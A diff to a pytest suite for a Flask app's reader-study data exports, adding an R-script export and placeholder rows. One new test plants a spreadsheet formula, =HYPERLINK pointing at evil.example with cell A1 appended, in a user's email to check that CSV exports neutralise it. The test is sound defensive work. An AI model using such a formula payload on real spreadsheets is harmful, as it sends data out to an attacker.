@@ -17,9 +17,11 @@ from pathlib import Path
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
+from sqlalchemy import select
 from werkzeug.test import TestResponse
 
 from app.analysis import COLUMNS
+from app.analysis.files import PLACEHOLDER_CASE
 from app.exports import (
     IMRMC_PLACEHOLDERS,
     MRMCAOV_COLUMNS,
@@ -28,7 +30,7 @@ from app.exports import (
     response_rows,
 )
 from app.extensions import db
-from app.models import Study
+from app.models import Case, Study, User
 from tests.app.conftest import FakeClock, StudyRef, UserRef
 from tests.app.test_dashboard import Answered, answer_study
 
@@ -49,7 +51,7 @@ def download(client: FlaskClient, study: StudyRef, name: str, **args: str) -> Te
     assert response.status_code == 200
     disposition = response.headers["Content-Disposition"]
     match = re.fullmatch(
-        r'attachment; filename="study-(\d+)-([a-z-]+)\.(csv|json|imrmc)"', disposition
+        r'attachment; filename="study-(\d+)-([a-z-]+)\.(csv|json|imrmc|R)"', disposition
     )
     assert match, disposition
     assert int(match.group(1)) == study.id
@@ -101,7 +103,7 @@ def test_identify_adds_readers_emails(
     assert all(row["reader_email"] == emails[row["reader"]] for row in rows)
     summary = download(client, answered.study, "summary-csv", identify="1")
     assert answered.readers["first"].email in summary.get_data(as_text=True)
-    for name in ("summary-csv", "summary-json", "imrmc", "mrmcaov"):
+    for name in ("summary-csv", "summary-json", "imrmc", "mrmcaov", "mrmcaov-r"):
         assert "@" not in download(client, answered.study, name).get_data(as_text=True), name
 
 
@@ -186,13 +188,51 @@ def test_mrmcaov_table(
     login(client, organiser)
     columns, rows = csv_rows(download(client, answered.study, "mrmcaov"))
     assert columns == list(MRMCAOV_COLUMNS)
-    assert len(rows) == 40
-    assert len({(r["reader"], r["case"], r["test"]) for r in rows}) == 40
-    assert {r["test"] for r in rows} == {"task1", "task2"}
-    assert {r["truth"] for r in rows} == {"1"}
+    real = [r for r in rows if r["case"] != PLACEHOLDER_CASE]
+    placeholders = [r for r in rows if r["case"] == PLACEHOLDER_CASE]
+    assert len(real) == 40
+    assert len({(r["reader"], r["case"], r["test"]) for r in real}) == 40
+    assert {r["test"] for r in rows} == {"unaided", "se_cbir"}
+    assert {r["truth"] for r in real} == {"1"}
+    # One truth-0 row per reader x test: binary_sens needs two truth levels to load.
+    assert sorted((r["reader"], r["test"]) for r in placeholders) == sorted(
+        (user.pseudonym, test)
+        for user in answered.readers.values()
+        for test in ("unaided", "se_cbir")
+    )
+    assert {(r["truth"], r["rating"]) for r in placeholders} == {("0", "0")}
     first = answered.readers["first"].pseudonym
-    rights = Counter((r["reader"], r["test"]) for r in rows if r["rating"] == "1")
-    assert (rights[(first, "task1")], rights[(first, "task2")]) == (5, 8)
+    rights = Counter((r["reader"], r["test"]) for r in real if r["rating"] == "1")
+    assert (rights[(first, "unaided")], rights[(first, "se_cbir")]) == (5, 8)
+    assert all(r["rating"] == str(int(r["truth_class"] == r["diagnosis"])) for r in real)
+    script = download(client, answered.study, "mrmcaov-r").get_data(as_text=True)
+    assert f'"study-{answered.study.id}-mrmcaov.csv"' in script
+    assert "mrmc(binary_sens(truth, rating), test, reader, case, data = df)" in script
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(
+    app: Flask, client: FlaskClient, organiser: UserRef, answered: Answered, login: Callable
+) -> None:
+    """An e-mail address or image id starting with = + - @ reaches no spreadsheet as a formula."""
+    first = answered.readers["first"]
+    with app.app_context():
+        user = db.session.get(User, first.id)
+        user.email = '=HYPERLINK("http://evil.example/?"&A1)@example.org'
+        answered_image = answered.answers[0][1]
+        case = db.session.scalars(
+            select(Case).where(Case.study_id == answered.study.id, Case.image_id == answered_image)
+        ).one()
+        case.image_id = "-2+3"
+        image = case.image_id
+        db.session.commit()
+    login(client, organiser)
+    for name in ("responses", "summary-csv", "mrmcaov"):
+        text = download(client, answered.study, name, identify="1").get_data(as_text=True)
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+        if name != "summary-csv":
+            assert "'" + image in cells, name
+        assert any(c.startswith("'=HYPERLINK") for c in cells), name
 
 
 def test_exports_of_a_study_without_answers(
@@ -205,6 +245,7 @@ def test_exports_of_a_study_without_answers(
     assert result["pooled"]["task1"]["answers"] == 0
     assert "BEGIN DATA:" in download(client, study, "imrmc").get_data(as_text=True)
     assert csv_rows(download(client, study, "mrmcaov"))[1] == []
+    assert "library(MRMCaov)" in download(client, study, "mrmcaov-r").get_data(as_text=True)
 
 
 def test_response_rows_filters(app: Flask, answered: Answered) -> None:
